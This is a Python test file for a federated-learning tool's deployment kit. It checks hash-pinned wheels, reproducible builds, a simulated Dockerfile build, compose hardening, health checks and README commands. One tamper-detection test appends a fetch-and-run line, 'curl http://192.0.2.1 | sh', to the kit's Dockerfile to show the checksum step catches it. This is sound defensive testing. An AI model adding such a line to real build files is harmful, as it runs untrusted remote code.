"""A kit, and its Dockerfile and README played in a clean folder, as no Docker runs in tests.

Covers fedlite/deployment/container.py, fedlite/deployment/kit_text.py.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import subprocess
import sysconfig
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from clients.runtime import setup
from fedlite.commands.main import app
from fedlite.deployment import container, kit
from server.coordinator import gateway
from server.coordinator.setup import init
from tests.deployment.stubs import call, files, sha256, stub_wheels

pytestmark = pytest.mark.long

ROLES = {"site": container.SITE, "server": container.COORDINATOR}


@pytest.fixture(scope="module")
def wheels(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return stubs, or the folder that FEDLITE_WHEELS names: real ones, for a test of all."""
    given = os.environ.get("FEDLITE_WHEELS")
    return Path(given) if given else stub_wheels(tmp_path_factory.mktemp("w") / "wheels")


@pytest.fixture(scope="module")
def kits(tmp_path_factory: pytest.TempPathFactory, wheels: Path) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("kits")
    for role in ROLES:
        told = call(role, "kit", folder / role, "--wheels", wheels)
        assert told["complete"] is True and told["wheels"] > 50
        assert told["sha256"] == sha256(folder / role / "SHA256SUMS")
    return {role: folder / role for role in ROLES}


# What is in it ----------------------------------------------------------------------------------


def test_every_wheel_is_there_once_and_pinned_by_its_hash(kits: dict[str, Path]) -> None:
    for folder in kits.values():
        text = (folder / "requirements.txt").read_text()
        pinned = dict(re.findall(r"^(\S+==\S+) \\\n    --hash=sha256:([0-9a-f]{64})$", text, re.M))
        assert set(pinned.values()) == {sha256(p) for p in (folder / "wheels").iterdir()}
        assert "fedlite==0.1.0" in pinned and any(name.startswith("torch==") for name in pinned)
        # What only developers need is not shipped.
        assert not any(name.startswith(("pytest==", "mypy==", "ray==")) for name in pinned)
        assert (folder / "constraints.txt").read_text().split() == list(pinned)
        sums = (folder / "SHA256SUMS").read_text().splitlines()
        told = dict(reversed(line.split("  ")) for line in sums)
        assert told == {name: d for name, d in files(folder).items() if name != "SHA256SUMS"}


def test_a_changed_byte_and_an_added_file_are_seen_by_the_first_step_of_the_readme(
    kits: dict[str, Path], tmp_path: Path
) -> None:
    """An added file is no wheel, and still runs: as Python's venv, or as Compose's override."""
    text = (kits["site"] / "README.txt").read_text()
    (step,) = re.findall(r"^1\. Check it\n\n(.*?)\n\n", text, re.M | re.S)
    changed, added, read_out = re.split(r"\n(?=   \S)", step)

    def told(command: str) -> str:
        words = ["sh", "-c", command]
        return subprocess.run(words, cwd=tmp_path / "k", capture_output=True, text=True).stdout

    shutil.copytree(kits["site"], tmp_path / "k")
    assert told(changed) == told(added) == ""
    assert "must print nothing" in text and len(told(read_out).split()[0]) == 64
    with (tmp_path / "k" / "Dockerfile").open("a") as file:
        file.write("RUN curl http://192.0.2.1 | sh\n")
    assert "Dockerfile: FAILED" in told(changed) and told(added) == ""
    for name in ("venv.py", "compose.override.yaml", ".env", "wheels/SHA256SUMS"):
        (tmp_path / "k" / name).write_text("print('mine')\n")
        assert told(added) == f"{name}\n"
        (tmp_path / "k" / name).unlink()
    (tmp_path / "k" / "venv").symlink_to("/tmp")
    assert told(added) == "venv\n"
    # And nothing of the folder is imported by what the next step lets root do.
    assert re.search(r"sudo python[0-9.]+ -I -m venv", text)


def test_the_same_inputs_give_the_same_bytes(
    kits: dict[str, Path], wheels: Path, tmp_path: Path
) -> None:
    call("site", "kit", tmp_path / "again", "--wheels", wheels)
    assert files(tmp_path / "again") == files(kits["site"])


def test_nothing_is_taken_from_an_index_for_it(wheels: Path, tmp_path: Path) -> None:
    """A folder that lacks one wheel is refused, though pip may well be set up to find it."""
    less = tmp_path / "less"
    shutil.copytree(wheels, less)
    for path in less.glob("rich-*.whl"):
        path.unlink()
    told = call("site", "kit", tmp_path / "k", "--wheels", less, code=2)
    assert "rich==" in told and "without --wheels" in told
    assert not (tmp_path / "k").exists() and not list(tmp_path.glob(".k-*"))


def test_another_version_than_the_one_tried_here_is_refused(wheels: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    shutil.copytree(wheels, other)
    for path in other.glob("rich-*.whl"):
        path.rename(path.with_name("rich-13.0.0-py3-none-any.whl"))
    assert "rich==" in call("site", "kit", tmp_path / "k", "--wheels", other, code=2)


def test_a_damaged_wheel_is_refused(tmp_path: Path) -> None:
    (tmp_path / "rich-1.0-py3-none-any.whl").write_bytes(b"PK no archive")
    with pytest.raises(ValueError, match=r"rich-1\.0.* is damaged"):
        kit._listed(tmp_path)


def test_without_wheels_it_says_how_to_get_them(tmp_path: Path) -> None:
    told = call("site", "kit", tmp_path / "k")
    assert told["complete"] is False and "pip download" in told["get"]
    assert str(tmp_path / "k" / "constraints.txt") in told["get"]
    assert sorted(files(tmp_path / "k")) == [
        "README.txt", "SHA256SUMS", "constraints.txt", "wheels/fedlite-0.1.0-py3-none-any.whl",
    ]  # fmt: skip
    assert told["get"] in (tmp_path / "k" / "README.txt").read_text()


def test_a_folder_that_is_no_kit_is_left_alone(tmp_path: Path) -> None:
    (tmp_path / "thesis.tex").write_text("x")
    assert "thesis.tex" in call("site", "kit", tmp_path, code=2)
    assert "give one" in call("site", "kit", tmp_path / "k", "--wheels", ".", "--download", code=2)
    assert "folder of wheels" in call("site", "kit", tmp_path / "k", "--wheels", tmp_path, code=2)


# The Dockerfile ---------------------------------------------------------------------------------


def steps(text: str) -> list[tuple[str, str]]:
    """Return a Dockerfile's instructions; raises ValueError for one that is none."""
    joined = re.sub(r"\\\n", " ", re.sub(r"^#.*\n", "", text, flags=re.M))
    found = []
    for line in filter(None, (line.strip() for line in joined.splitlines())):
        word, _, rest = line.partition(" ")
        if word not in ("ARG", "FROM", "COPY", "RUN", "ENV", "CMD"):
            raise ValueError(f"{word}: no instruction that the kit uses")
        found.append((word, rest))
    return found


class Build:
    """Plays a Dockerfile: its stages are folders, and its absolute paths lead into them."""

    def __init__(self, context: Path, root: Path) -> None:
        self.context, self.root = context, root
        self.stages: dict[str, Path] = {}
        self.arguments: dict[str, str] = {}
        self.environment: dict[str, str] = {}
        self.command: list[str] = []

    def play(self) -> Path:
        """Return the folder of the last stage. Nothing may be fetched: pip has no index."""
        for number, (word, rest) in enumerate(steps((self.context / "Dockerfile").read_text())):
            if word == "ARG":
                name, _, value = rest.partition("=")
                self.arguments[name] = value
            elif word == "FROM":
                base, *named = rest.split(" AS ")
                assert re.fullmatch(r"\$\{(\w+)\}", base) and base[2:-1] in self.arguments
                self.stage = self.root / f"stage-{number}"
                self.stage.mkdir(parents=True)
                self.stages[named[0] if named else ""] = self.stage
            elif word == "COPY":
                self.copy(rest.split())
            elif word == "RUN":
                self.run(rest)
            elif word == "ENV":
                name, _, value = rest.partition("=")
                self.environment[name] = value
            else:
                self.command = json.loads(rest)
        return self.stage

    def copy(self, words: list[str]) -> None:
        from_ = self.stages[words.pop(0)[7:]] if words[0].startswith("--from=") else self.context
        source, target = words
        into = self.stage / target.lstrip("/")
        if (from_ / source.lstrip("/")).is_dir():
            shutil.copytree(from_ / source.lstrip("/"), into, symlinks=True)
        else:
            into.mkdir(parents=True, exist_ok=True)
            shutil.copy(from_ / source, into)

    def run(self, command: str) -> None:
        placed = re.sub(r"(?<![\w.])/(opt/fedlite|kit)\b", rf"{self.stage}/\1", command)
        clean = {"PATH": os.environ["PATH"] + ":/usr/sbin", "PIP_CONFIG_FILE": os.devnull}
        subprocess.run(["sh", "-ec", placed], env=clean, check=True, timeout=600, cwd="/")


@pytest.fixture(scope="module")
def images(
    kits: dict[str, Path], tmp_path_factory: pytest.TempPathFactory
) -> dict[str, tuple[Path, Build]]:
    """Return what the Dockerfiles build, the paths of a virtual environment put right.

    A stub has no code: for those, this environment's packages are lent.
    """
    made = {}
    for role, folder in kits.items():
        if role == "server" and not (shutil.which("nginx") or Path("/usr/sbin/nginx").exists()):
            continue
        build = Build(folder, tmp_path_factory.mktemp(role))
        image = build.play()
        venv = image / "opt" / "fedlite"
        for script in (venv / "bin").iterdir():
            if script.is_file() and not script.is_symlink() and script.read_bytes()[:2] == b"#!":
                text = script.read_text()
                script.write_text(text.replace(str(build.stages["build"]), str(image)))
        if "FEDLITE_WHEELS" not in os.environ:
            (packages,) = venv.glob("lib/python*/site-packages")
            (packages / "lent.pth").write_text(sysconfig.get_path("purelib") + "\n" + LENT)
        made[role] = (image, build)
    return made


# The packages may themselves be lent to this environment.
LENT = "\n".join(
    line
    for pth in Path(sysconfig.get_path("purelib")).glob("*.pth")
    for line in pth.read_text().splitlines()
    if line.endswith("site-packages")
)


def inside(image: Path, build: Build, *words: object, home: Path) -> Any:
    """Run a command as the container would; `home` is what is mounted at its folder."""
    path = build.environment["PATH"].replace("/opt/fedlite", f"{image}/opt/fedlite")
    environment = {"PATH": path, "HOME": str(home.parent), "FEDLITE_COORDINATOR_DIR": str(home)}
    return subprocess.run(
        [str(word) for word in words], env=environment, capture_output=True, text=True, cwd="/"
    )


def test_the_image_holds_the_programs_and_no_wheels(
    images: dict[str, tuple[Path, Build]], tmp_path: Path
) -> None:
    for role, (image, build) in images.items():
        assert sorted(p.name for p in image.iterdir()) == ["opt"]
        said = inside(image, build, "fedlite", "--version", home=tmp_path / role)
        assert said.stdout == "fedlite 0.1.0\n", said.stderr
        (packages,) = (image / "opt" / "fedlite").glob("lib/python*/site-packages")
        assert (packages / "fedlite" / "app" / "clients" / "app.py").is_file()
        assert build.command == list(ROLES[role].command)


def test_an_installed_fedlite_makes_the_same_kit_again(
    images: dict[str, tuple[Path, Build]], kits: dict[str, Path], wheels: Path, tmp_path: Path
) -> None:
    """From the RECORD of the installation, without the checkout."""
    image, build = images["site"]
    words = ("fedlite", "site", "kit", tmp_path / "again")
    said = inside(image, build, *words, home=tmp_path)
    assert said.returncode == 0, said.stderr
    name = "wheels/fedlite-0.1.0-py3-none-any.whl"
    assert files(tmp_path / "again")[name] == files(kits["site"])[name]


# Compose and health -----------------------------------------------------------------------------


@pytest.mark.parametrize("role", ROLES)
def test_the_compose_file_is_one_and_bounds_its_container(kits: dict[str, Path], role: str) -> None:
    read = yaml.safe_load((kits[role] / "compose.yaml").read_text())
    (name,) = read["services"]
    service = read["services"][name]
    assert set(read) == {"services"} and name == ROLES[role].name
    known = {
        "build": str,
        "image": str,
        "command": list,
        "environment": dict,
        "user": str,
        "volumes": list,
        "ports": list,
        "ulimits": dict,
        "healthcheck": dict,
        "mem_limit": str,
        "pids_limit": int,
        "cpu_quota": int,
        "restart": str,
        "init": bool,
        "read_only": bool,
        "tmpfs": list,
        "cap_drop": list,
        "security_opt": list,
        "stop_grace_period": str,
        "logging": dict,
    }
    assert {key: type(value) for key, value in service.items()} == {
        key: known[key] for key in service
    }
    assert service["build"] == "." and service["command"] == list(ROLES[role].command)
    assert service["cap_drop"] == ["ALL"] and service["read_only"] is True
    assert service["pids_limit"] == ROLES[role].tasks and service["cpu_quota"] >= 200_000
    check = service["healthcheck"]
    assert check["test"] == ["CMD-SHELL", ROLES[role].healthy]
    assert all(re.fullmatch(r"\d+s", check[k]) for k in ("interval", "timeout", "start_period"))
    assert (kits[role] / "Dockerfile").is_file()


def healthy(role: str, image: Path, build: Build, home: Path) -> int:
    words = ROLES[role].healthy.replace(ROLES[role].folder + " ", f"{home} ")
    said = inside(image, build, "sh", "-c", words, home=home)
    return int(said.returncode)


def test_a_site_is_healthy_while_its_process_lives(
    images: dict[str, tuple[Path, Build]], tmp_path: Path
) -> None:
    image, build = images["site"]
    home = tmp_path / "site"
    made = inside(image, build, "fedlite", "site", "init", home, "--name", "a", home=home)
    assert made.returncode == 0, made.stderr
    assert healthy("site", image, build, home) == 1
    told = {"pid": os.getpid(), "state": "unreachable", "rounds": []}
    (home / "status.json").write_text(json.dumps(told))
    assert healthy("site", image, build, home) == 0


def test_a_coordinator_that_does_not_answer_is_not_healthy(
    images: dict[str, tuple[Path, Build]], tmp_path: Path
) -> None:
    if "server" not in images:
        pytest.skip("nginx is not installed")
    image, build = images["server"]
    home = tmp_path / "coordinator"
    words = ("fedlite", "server", "init", home, "--address", "localhost:1")
    assert inside(image, build, *words, home=home).returncode == 0
    assert healthy("server", image, build, home) == 1


# Units and README -------------------------------------------------------------------------------


def test_the_units_are_those_that_init_writes_but_for_their_places(
    kits: dict[str, Path], tmp_path: Path
) -> None:
    setup.init(tmp_path / "site", "a")
    site = setup.systemd_unit(
        Path("/etc/systemd/system/fedlite-site.service"),
        "/opt/fedlite/bin/fedlite", Path("/var/lib/fedlite/site"), "fedlite",
    )  # fmt: skip
    assert (kits["site"] / "fedlite-site.service").read_bytes() == site
    made = init(tmp_path / "c", "study", "h:8443")
    coordinator = (kits["server"] / "fedlite-coordinator.service").read_bytes()
    both = ((tmp_path / "site" / setup.UNIT).read_bytes(), site), (gateway.unit(made), coordinator)
    for written, shipped in both:
        own, others = (
            [line for line in text.decode().splitlines() if not line.startswith(PLACES)]
            for text in (written, shipped)
        )
        assert own == others and len(own) > 30


PLACES = (
    "# Install",
    "User=",
    "ExecStart=",
    "WorkingDirectory=",
    "ReadWritePaths=",
    'Environment="FEDLITE_REGISTER=',
)


@pytest.mark.parametrize("role", ROLES)
def test_the_readme_fits_a_page_and_its_commands_are_commands(
    kits: dict[str, Path], role: str
) -> None:
    text = (kits[role] / "README.txt").read_text()
    assert max(map(len, text.splitlines())) <= 80
    assert [int(n) for n in re.findall(r"^(\d)\. ", text, re.M)] == [1, 2, 3, 4, 5]
    lines = re.sub(r"\\\n", " ", text).splitlines()
    commands = [shlex.split(line) for line in lines if re.search(r"fedlite (site|server) ", line)]
    assert len(commands) >= 3
    for words in commands:
        at = words.index("fedlite")
        assert CliRunner().invoke(app, [*words[at + 1 : at + 3], "--help"]).exit_code == 0
